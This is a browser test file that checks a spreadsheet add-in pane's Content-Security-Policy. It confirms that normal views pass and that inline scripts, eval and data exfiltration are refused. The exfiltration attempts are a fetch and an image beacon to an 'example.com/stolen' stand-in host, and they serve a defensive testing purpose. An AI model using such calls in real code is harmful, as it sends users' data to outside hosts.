import { expect, test } from "./support/journey";
import { VIEWS, type User } from "./support/user";

declare global {
  interface Window {
    /** What the pane's Content-Security-Policy has refused. */
    refused?: string[];
  }
}

const watch = ({ frame }: User): Promise<void> =>
  frame.evaluate(() => {
    const refused: string[] = (window.refused = []);
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      refused.push(`${effectiveDirective} ${blockedURI}`);
    });
  });

const refused = ({ frame }: User): Promise<string[]> => frame.evaluate(() => window.refused ?? []);

test("every view, a calculated formula and the other language keep to the pane's Content-Security-Policy", async ({
  user,
}) => {
  await watch(user);
  await user.write("Sheet1", "A1", "=OURO.RUNWAY(12,4)");
  expect(await user.cell("Sheet1", "A1")).toBe(3);
  for (const view of VIEWS) await user.show(view);
  await user.speak("zh-CN");
  expect(await refused(user)).toEqual([]);
});

test.describe("the policy refuses", () => {
  test.use({ tolerated: /Content Security Policy|example\.com/ });

  test("code made of text, scripts within the page, and what would carry data away", async ({
    user,
  }) => {
    await watch(user);
    const made = await user.frame.evaluate(async () => {
      // What the debugger runs may use eval whatever the policy says; a task of the page's own may not.
      await new Promise((resolve) => setTimeout(resolve, 0));
      const script = document.createElement("script");
      script.textContent = "window.ranInline = true";
      document.body.append(script);
      const handler = document.createElement("button");
      handler.setAttribute("onclick", "window.ranHandler = true");
      handler.click();
      const evaluated = await attempt(() => (0, eval)("1"));
      const sent = await attempt(() => fetch("https://example.com/stolen"));
      const picture = Object.assign(new Image(), { src: "https://example.com/stolen.png" });
      const beacon = await attempt(() => picture.decode());
      const { ranInline, ranHandler } = window as { ranInline?: true; ranHandler?: true };
      return { evaluated, sent, beacon, ranInline, ranHandler };

      async function attempt(act: () => unknown): Promise<string> {
        try {
          await act();
          return "done";
        } catch {
          return "refused";
        }
      }
    });
    expect(made).toEqual({ evaluated: "refused", sent: "refused", beacon: "refused" });
    const directives = (await refused(user)).map((text) => text.split(" ")[0]);
    expect(new Set(directives)).toEqual(
      new Set(["script-src-elem", "script-src-attr", "script-src", "connect-src", "img-src"]),
    );
  });
});
